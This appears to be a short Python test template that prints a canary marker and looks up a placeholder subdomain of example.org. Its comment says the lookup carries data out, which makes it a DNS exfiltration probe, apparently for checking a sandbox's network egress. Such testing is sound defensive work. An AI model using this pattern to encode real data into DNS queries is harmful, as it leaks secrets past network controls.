# how: asks for a name, which carries data out
import socket

print("CANARY @NAME@", flush=True)
socket.setdefaulttimeout(2)
for name in ("@MARK@.example.org", "example.com"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError as error:
        print(error)
